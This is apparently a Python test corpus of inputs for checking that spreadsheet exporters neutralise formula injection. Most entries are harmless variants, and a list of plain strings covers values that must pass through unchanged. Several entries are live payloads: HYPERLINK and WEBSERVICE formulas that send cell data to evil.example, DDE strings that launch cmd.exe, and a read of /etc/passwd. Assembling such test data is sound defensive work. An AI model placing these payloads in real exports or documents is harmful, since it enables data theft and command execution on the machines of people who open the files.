"""What people may type to make a spreadsheet do something: every exporter gets all of it."""

# At the beginning of a cell, as published by those who tell of the attack, and variations.
BARE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=SUM(1,1)",
    "=sum(1;1)",
    '=HYPERLINK("https://evil.example/?leak="&A1&A2,"Click here")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML("https://evil.example","//a")',
    "=IMPORTDATA(A1)",
    "='file:///etc/passwd'#$passwd.A1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "-2+3+cmd|' /C calc'!A0",
    "=-+-+1",
    "+-1",
    "--1",
    "==1+1",
    "=A1",
    "=$A$1:B2",
    "={1;2}",
    '="a"&"b"',
    '="=1+1"',
    "=1+1\n=2+2",
    "=10+20+cmd|' /C calc'!A0\n",
    "@A1",
    "+A1",
    "-A1",
)
BLANKS = (" ", "   ", "\u00a0", "\u2003", "\u3000", "\ufeff", "\u200b", "\u200e", "\u202e", "\x0b")
BEHIND_BLANKS = tuple(f"{blank}=1+1" for blank in BLANKS)
CONTROLS = (
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t\t@SUM(1)",
    "\x01=1+1",
    "\x1f=1+1",
    "\x7f=1",
)
WIDE = ("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe661+1", "\ufe621", "\u22121+1")
# In the midst of a text: what another separator makes the beginning of a cell.
WITHIN = (
    "text;=1+1;text",
    "text; =1+1",
    "text\t=1+1\ttext",
    "text\n=1+1",
    "text\r\n@SUM(1)",
    "text\r=1+1",
    'text";=1+1;"',
    'text;"=1+1";',
    'text;""=1+1',
    '";=1+1;"',
    '","=1+1","',
    '"\n=1+1\n"',
    "text,=1+1,text",
    "';=1+1",
    "x;+1+1;-1+1;@SUM(1)",
)
# No formula, and yet not to be touched or lost.
PLAIN = (
    "plain text",
    "  spaces at both ends  ",
    'Two, "quoted"; words',
    "Zürich, 東京, 😀, עברית",
    "_x0041_ is not A",
    "<b>&amp;</b> & ]]>",
    "back\\slash \\n \\. \\N",
    "line one\nline two\r\nline three",
    "p = 0.05 (a - b)",
    "'=1+1",
    "%s {0} $1",
)
# PostgreSQL holds no NUL: only what Python writes may meet one.
WITH_NUL = ("\0=1+1", " \0@SUM(1)", "text;\0=1+1")
CORPUS = (*BARE, *BEHIND_BLANKS, *CONTROLS, *WIDE, *WITHIN, *PLAIN)
